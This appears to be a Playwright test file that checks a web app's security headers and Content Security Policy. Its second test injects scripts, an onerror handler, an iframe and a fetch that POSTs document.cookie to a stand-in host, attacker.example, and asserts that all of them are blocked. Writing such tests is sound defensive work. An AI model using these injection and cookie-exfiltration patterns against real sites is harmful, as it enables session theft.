import { expect, see, signedIn, test } from './journey'

const always = {
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'same-origin',
  'x-frame-options': 'DENY',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'permissions-policy': 'camera=(), geolocation=(), microphone=()',
}
const ofPages = /^default-src 'none'; script-src 'self'; style-src 'self';.* frame-ancestors 'none'$/
const ofData = /^sandbox; default-src 'none'; frame-ancestors 'none'$/

test.use({
  storageState: signedIn,
  mayBeSaid: /policy breach|Content Security Policy|X-Frame-Options|404|went to https:..attacker.example/,
})

test('every answer tells the browser what it may do with it', async ({ page }) => {
  for (const [path, status, policy] of [
    ['/', 200, ofPages],
    ['/action-items', 200, ofPages],
    ['/no-such-page', 200, ofPages],
    ['/api/v1/session', 200, ofData],
    ['/api/v1/action-items/export?format=CSV', 200, ofData],
    ['/api/v1/no-such-thing', 404, ofData],
  ] as const) {
    const answer = await page.request.get(path)
    expect(answer.status(), path).toBe(status)
    expect(answer.headers(), path).toMatchObject(always)
    expect(answer.headers()['content-security-policy'], path).toMatch(policy)
    if (policy === ofData) expect(answer.headers()['cache-control'], path).toBe('no-store')
  }
})

test('what somebody smuggles into a page neither runs nor calls home', async ({ page }) => {
  // There is an attacker who answers, so that what was not held back would do its work.
  const reached: string[] = []
  await page.route('https://attacker.example/**', (route) => {
    reached.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'window.smuggled = true' })
  })
  await page.goto('/')
  await see(page, '總覽')
  const breaches = await page.evaluate(async () => {
    const told: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.push(effectiveDirective))
    const script = document.createElement('script')
    script.textContent = 'window.smuggled = true'
    const image = document.createElement('img')
    image.src = 'https://attacker.example/pixel.png'
    image.setAttribute('onerror', 'window.smuggled = true')
    const foreign = document.createElement('script')
    foreign.src = 'https://attacker.example/code.js'
    const frame = document.createElement('iframe')
    frame.src = 'https://attacker.example/'
    document.body.append(script, image, foreign, frame)
    await fetch('https://attacker.example/', { method: 'POST', body: document.cookie }).catch(() => undefined)
    await new Promise((done) => setTimeout(done, 500))
    return told
  })
  expect(new Set(breaches)).toEqual(
    new Set(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src', 'frame-src']),
  )
  expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
  expect(reached).toEqual([])
})

test('no other page can show this one in a frame', async ({ page, baseURL }) => {
  await page.goto('about:blank')
  await page.setContent(`<iframe src="${baseURL}/" title="office"></iframe>`)
  await expect.poll(() => page.frames().at(-1)?.url()).toBe('chrome-error://chromewebdata/')
})
